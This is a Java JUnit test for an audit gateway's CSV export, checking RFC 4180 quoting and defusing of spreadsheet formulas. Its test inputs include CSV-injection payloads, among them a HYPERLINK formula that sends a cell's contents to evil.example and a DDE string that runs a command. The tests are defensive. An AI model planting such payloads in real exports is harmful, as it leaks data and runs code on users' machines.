package org.mdmaat.gateway.audit;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** The CSV export's cells: RFC 4180 quoting and OWASP's CSV-injection rule. */
class CsvFieldTest {

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1"
      })
  void prefixesAValueASpreadsheetWouldRunWithAQuoteAndQuotesIt(String value) {
    var cell = AuditRoutes.csvField(value);
    assertThat(cell).isEqualTo("\"'" + value.replace("\"", "\"\"") + "\"");
  }

  @Test
  void leavesPlainValuesAsTheyAre() {
    assertThat(AuditRoutes.csvField("investigator.sf")).isEqualTo("investigator.sf");
    assertThat(AuditRoutes.csvField("a=b")).isEqualTo("a=b");
    assertThat(AuditRoutes.csvField("")).isEmpty();
  }

  @Test
  void quotesCommasQuotesAndLineBreaksAsRfc4180() {
    assertThat(AuditRoutes.csvField("a, b")).isEqualTo("\"a, b\"");
    assertThat(AuditRoutes.csvField("say \"no\"")).isEqualTo("\"say \"\"no\"\"\"");
    assertThat(AuditRoutes.csvField("line\nbreak")).isEqualTo("\"line\nbreak\"");
  }
}
